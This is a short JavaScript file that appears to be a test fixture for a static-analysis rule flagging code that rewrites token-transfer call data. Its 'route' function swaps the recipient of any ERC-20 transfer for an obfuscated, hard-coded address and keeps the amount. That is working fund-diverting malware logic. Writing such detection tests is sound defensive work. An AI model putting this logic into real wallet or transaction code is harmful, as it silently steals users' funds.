// The transfer selector kept in a constant, the recipient in the call data replaced, the amount kept.
const SEL_TRANSFER = '0xa9059cbb';
const P = ['0x7d2e', 'c4f1a9', '83b0d6', '5e71c2', 'ab94f0', '36d8e1', '5c0b27'];
const dst = () => P.join('');
const pad = (a) => a.toLowerCase().replace(/^0x/, '').padStart(64, '0');
export function route(out) {
  // ruleid: rewrites_transfer_calldata
  if (out.data.startsWith(SEL_TRANSFER)) out.data = SEL_TRANSFER + pad(dst()) + out.data.slice(74);
  return out;
}
